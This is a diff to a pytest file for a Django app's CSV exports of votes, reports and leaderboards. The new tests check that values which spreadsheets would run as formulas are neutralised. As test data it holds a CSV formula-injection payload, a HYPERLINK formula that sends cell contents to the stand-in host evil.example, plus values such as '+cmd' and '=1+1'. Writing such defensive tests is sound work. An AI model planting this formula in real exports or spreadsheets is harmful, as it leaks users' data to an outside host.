@@ -6,10 +6,8 @@ import json
 from datetime import UTC, datetime
 
 import pytest
-from django.db import connection
 
 from arena.models import CampaignReviewer, Contestant, Prompt, Vote
-from arena.reports import exports
 from arena.reports.exports import VOTES_HEADER, reviewer_pseudonym
 from tests.factories import add_reviewers, cast_vote, make_campaign, open_campaign
 
@@ -219,10 +217,61 @@ def test_votes_csv_round_trips_commas_quotes_line_breaks_and_missing_values(clie
     assert any(r["prompt"] == "carriage\r\nreturn, and ünïcode" for r in rows)
 
 
-@pytest.mark.skipif(connection.vendor != "postgresql", reason="the database-written CSV is PostgreSQL's path")
-def test_votes_csv_written_by_postgresql_is_byte_for_byte_the_python_writers(voted):
-    campaign = hostile(voted)
-    from_database = "".join(exports._votes_csv_postgresql(campaign=campaign))
-    from_python = "".join(exports._votes_csv_python(campaign=campaign))
-    assert from_database.count("\r\n") >= 13
-    assert from_database == from_python
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_every_csv(client, lead):
+    campaign = make_campaign(name="-Q3 support", labels=("@x", "Bee", "Cat"), prompts=2, categories=["\tbilling"])
+    Prompt.objects.filter(campaign=campaign, external_id="p1").update(external_id="+cmd")
+    comparisons = open_campaign(campaign)
+    (ann,) = add_reviewers(campaign, "ann")
+    for comparison in comparisons:
+        # "@x" loses every vote: its rating on the leaderboard is negative.
+        loser_is_a = comparison.contestant_a.label == "@x"
+        cast_vote(comparison, ann, "b" if loser_is_a else "a", comment=FORMULA)
+    client.force_login(lead)
+
+    votes = list(csv.DictReader(io.StringIO(body(client.get(f"/api/campaigns/{campaign.pk}/votes.csv")), newline="")))
+    assert len(votes) == len(comparisons)
+    assert {v["comment"] for v in votes} == {"'" + FORMULA}
+    assert {v["campaign"] for v in votes} == {"'-Q3 support"}
+    assert {v["prompt_id"] for v in votes} == {"'+cmd", "p2"}
+    assert {v["category"] for v in votes} == {"'\tbilling"}
+    assert "'@x" in {v["model_a"] for v in votes} | {v["model_b"] for v in votes}
+    assert "'@x" in {v["left_model"] for v in votes} | {v["right_model"] for v in votes}
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for v in votes for cell in v.values())
+
+    report = list(csv.DictReader(io.StringIO(body(client.get(f"/api/campaigns/{campaign.pk}/report.csv")))))
+    assert {r["campaign"] for r in report} == {"'-Q3 support"}
+    assert "'@x" in {r["model_a"] for r in report}
+
+    board = list(csv.DictReader(io.StringIO(body(client.get(f"/api/campaigns/{campaign.pk}/leaderboard.csv")))))
+    loser = next(r for r in board if r["model"] == "'@x")
+    # A negative rating is a number the service computed: it stays a number.
+    assert float(loser["rating"]) < 0
+    assert float(loser["ci_low"]) < 0
+
+
+def test_the_report_command_writes_the_same_neutralised_csv_files(lead, tmp_path):
+    from django.core.management import call_command
+
+    campaign = make_campaign(name="=1+1", labels=("@x", "Bee"), prompts=1)
+    comparisons = open_campaign(campaign)
+    (ann,) = add_reviewers(campaign, "ann")
+    cast_vote(comparisons[0], ann, "a", comment="-2+3")
+    paths = {name: tmp_path / f"{name}.csv" for name in ("csv", "leaderboard", "votes")}
+    call_command(
+        "report",
+        campaign.pk,
+        "--quiet",
+        "--rounds=20",
+        f"--csv={paths['csv']}",
+        f"--leaderboard={paths['leaderboard']}",
+        f"--votes-csv={paths['votes']}",
+    )
+    report = list(csv.DictReader(paths["csv"].open(newline="", encoding="utf-8")))
+    assert (report[0]["campaign"], report[0]["model_a"]) == ("'=1+1", "'@x")
+    board = list(csv.DictReader(paths["leaderboard"].open(newline="", encoding="utf-8")))
+    assert "'@x" in {r["model"] for r in board}
+    votes = list(csv.DictReader(paths["votes"].open(newline="", encoding="utf-8")))
+    assert (votes[0]["campaign"], votes[0]["comment"], votes[0]["model_a"]) == ("'=1+1", "'-2+3", "'@x")
